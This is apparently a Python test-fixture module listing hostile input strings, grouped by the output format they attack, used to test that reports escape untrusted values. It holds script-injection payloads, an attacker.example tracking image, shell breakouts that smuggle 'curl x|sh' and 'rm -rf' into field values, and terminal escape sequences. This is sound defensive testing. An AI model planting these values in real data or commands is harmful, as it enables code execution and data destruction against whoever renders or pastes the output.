"""Hostile strings for tests: values an account the reader does not control may put in a Name
tag, a description, an id in a shared snapshot, or a waiver reason in a policy file.

Each entry names what it attacks, so a test can pick a family (`of_kind("markdown")`) or run
them all (`HOSTILE`) through an output format and assert nothing in it executes, renders or
escapes its context. `MARKERS` are substrings that must never reach an output raw (unescaped)
when they came from data.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """One hostile value and the family of output it attacks."""

    kind: str
    """html, markdown, mermaid, shell, terminal or unicode."""
    name: str
    """A short slug for test ids."""
    value: str


HOSTILE: tuple[Hostile, ...] = (
    # HTML: closes the report's own <details>, runs script through an image, opens a comment.
    Hostile("html", "close-details", "</details></summary>x"),
    Hostile("html", "img-onerror", '<img src=x onerror="alert(1)">'),
    Hostile("html", "script", "<script>alert(1)</script>"),
    Hostile("html", "comment", "<!-- hide the rest"),
    Hostile("html", "entity", "&lt;b&gt; &amp; &#60;i&#62;"),
    # Markdown: a new heading or list after a newline, a fence breaking out, table pipes,
    # a tracking image and a link, emphasis and a code span.
    Hostile("markdown", "newline-heading", "prod\n# Injected heading\n- item"),
    Hostile("markdown", "crlf", "prod\r\n\r\n> quote\rend"),
    Hostile("markdown", "fence", "x\n```\n# outside the fence\n```sh\nrm -rf /"),
    Hostile("markdown", "backticks", "a`b``c```d````e"),
    Hostile("markdown", "pipes", "a | b || c \\| d"),
    Hostile("markdown", "image", "![pixel](https://attacker.example/p.png)"),
    Hostile("markdown", "link", "[click me](javascript:alert(1)) <https://attacker.example>"),
    Hostile("markdown", "emphasis", "**bold** _it_ ~~gone~~ \\*"),
    Hostile("markdown", "leading-block", "# heading"),
    Hostile("markdown", "leading-list", "1. first"),
    # Mermaid: closes the label, ends the block, comments, directives, clicks, entity codes.
    Hostile("mermaid", "quote-bracket", 'a"] --> evil["b'),
    Hostile("mermaid", "close-link", "a]] --- b((c))"),
    Hostile("mermaid", "pipe-label", 'x|"y"| z'),
    Hostile("mermaid", "comment", "%% hide\nend"),
    Hostile("mermaid", "init-directive", '%%{init: {"securityLevel": "loose"}}%%'),
    Hostile("mermaid", "click", 'n\nclick v_x href "javascript:alert(1)"'),
    Hostile("mermaid", "entity-code", "#quot;#lt;img#gt; #35;"),
    Hostile("mermaid", "markdown-string", "`**md**`"),
    Hostile("mermaid", "keyword", "end"),
    # Shell: breaks out of a copy-pasted command.
    Hostile("shell", "semicolon-curl", "vpc-1;curl x|sh;#"),
    Hostile("shell", "subshell", "$(curl x|sh)`id`"),
    Hostile("shell", "quote", "a' ; rm -rf ~ ; '"),
    # Terminal: clear screen, OSC-8 hyperlink, title change, bell.
    Hostile("terminal", "clear-screen", "\x1b[2J\x1b[H"),
    Hostile("terminal", "osc8-link", "\x1b]8;;http://x\x07click\x1b]8;;\x07"),
    Hostile("terminal", "title", "\x1b]0;pwned\x07"),
    # Unicode and raw controls: NUL, C1 (CSI as one byte), right-to-left override.
    Hostile("unicode", "nul", "a\x00b"),
    Hostile("unicode", "c1-csi", "a\x9b2Jb\x85c"),
    Hostile("unicode", "rtl-override", "safe\u202etxt.exe"),
    Hostile("unicode", "line-separator", "a\u2028b\u2029c"),
)

VALUES: tuple[str, ...] = tuple(h.value for h in HOSTILE)
"""Just the strings, for parametrising."""

IDS: tuple[str, ...] = tuple(f"{h.kind}-{h.name}" for h in HOSTILE)
"""Test ids to go with VALUES."""

MARKERS: tuple[str, ...] = (
    "<img",
    "</details",
    "<script",
    "<!--",
    "\x1b",
    "\x07",
    "\x00",
    "\x9b",
    "\u202e",
)
"""What must never appear raw in an output when it came from data."""


def of_kind(kind: str) -> tuple[Hostile, ...]:
    """The hostile values of one family (html, markdown, mermaid, shell, terminal, unicode)."""
    found = tuple(h for h in HOSTILE if h.kind == kind)
    assert found, f"no hostile values of kind {kind!r}"
    return found
